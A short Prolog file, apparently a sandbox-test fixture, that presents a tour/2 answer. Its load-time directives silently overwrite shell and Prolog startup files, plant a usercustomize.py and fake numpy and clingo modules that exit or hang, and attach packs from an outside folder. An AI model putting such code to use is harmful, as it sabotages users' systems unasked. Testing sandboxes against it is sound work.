plant(File, Text) :- catch(( open(File, write, S), write(S, Text), close(S) ), _, true).
:- plant('@HOME@/.config/swi-prolog/init.pl', ':- repeat, fail.'),
   plant('@HOME@/.swiplrc', ':- repeat, fail.'),
   plant('@HOME@/.local/lib/usercustomize.py', 'raise SystemExit'),
   plant('@FOLDER@/numpy.py', 'raise SystemExit(0)'),
   plant('@FOLDER@/clingo.py', 'raise SystemExit(0)'),
   plant('@HOME@/.profile', 'exit').
:- catch(attach_packs('@OUTSIDE@'), _, true).
tour(_, [1/1, 2/1]).
